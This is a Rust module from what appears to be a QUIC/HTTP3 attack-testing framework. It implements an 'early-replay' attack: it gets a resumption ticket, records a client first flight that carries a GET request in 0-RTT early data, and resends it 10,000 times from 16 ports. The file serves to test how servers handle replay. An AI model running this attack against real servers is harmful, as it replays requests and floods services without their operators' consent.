//! A first flight with early data, sent again and again.

use courser_base::Time;
use std::time::Duration;

use crate::attack::{Attack, Pace, Plan, Victim};
use crate::attacker::Attacker;
use crate::connection::Connection;
use crate::early_client_tls;
use crate::hooks::Honest;
use crate::http::{self, Method};

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "early-replay",
    labels: &["A61"],
    summary: "the same first flight with a request in early data, from many ports",
    victim: Victim::Server,
    make: || Box::new(EarlyReplay::default()),
};

#[derive(Default)]
struct EarlyReplay {
    state: State,
    /// The datagrams of the first flight.
    flight: Vec<Vec<u8>>,
    /// The port of the next copy.
    port: u16,
    /// Copies of the present flight.
    copies: u32,
}

#[derive(Default)]
enum State {
    /// The next flight needs another ticket.
    #[default]
    Begin,
    /// An honest connection brings the ticket. It has been confirmed since this time.
    Met(u64, Option<Time>),
    /// The flight is repeated.
    Replaying,
}

impl Attack for EarlyReplay {
    fn start(&mut self, attacker: &mut Attacker) {
        attacker.connect_with(early_client_tls(b"h3"));
    }

    fn turn(&mut self, attacker: &mut Attacker, now: Time) -> Pace {
        match &mut self.state {
            State::Begin => {
                self.state = State::Met(attacker.connect(0, Box::new(Honest)), None);
            }
            State::Met(key, since) => {
                let key = *key;
                if attacker.peek(key).is_none_or(Connection::is_closed) {
                    self.state = State::Begin;
                } else if attacker.peek(key).is_some_and(Connection::is_confirmed) {
                    let since = *since.get_or_insert(now);
                    // The tickets arrive with HANDSHAKE_DONE, or soon after it.
                    if now >= since + TICKET_DELAY {
                        attacker.forget(key);
                        self.record(attacker, now);
                    }
                }
            }
            State::Replaying => {
                for _ in 0..BURST {
                    // All ports are in use at the same time.
                    self.port = self.port % PORTS + 1;
                    for bytes in &self.flight {
                        attacker.send_raw(self.port, bytes.clone());
                    }
                }
                self.copies += BURST;
                if self.copies >= COPIES {
                    self.state = State::Begin;
                }
            }
        }
        Pace::At(now + PAUSE)
    }
}

impl EarlyReplay {
    /// Records the first flight of a connection that resumes, and never continues it.
    fn record(&mut self, attacker: &mut Attacker, now: Time) {
        let key = attacker.connect(1, Box::new(Honest));
        let connection = attacker.connection(key).expect("made just now");
        self.state = State::Begin;
        if connection.begin_early() {
            connection.transmit(now);
            let request = http::request(Method::Get, "/");
            let id = http::request_stream(0);
            connection.send_early(&[http::stream(id, 0, &request, true)]);
            self.flight = std::iter::from_fn(|| connection.poll_datagram()).collect();
            self.state = State::Replaying;
            self.copies = 0;
        }
        attacker.forget(key);
    }
}

/// Time for the tickets of a server after its handshake.
const TICKET_DELAY: Duration = Duration::from_millis(20);

/// The pause between two bursts.
const PAUSE: Duration = Duration::from_millis(10);

/// Copies in one burst, copies of one flight, and ports.
const BURST: u32 = 8;
const COPIES: u32 = 10_000;
const PORTS: u16 = 16;
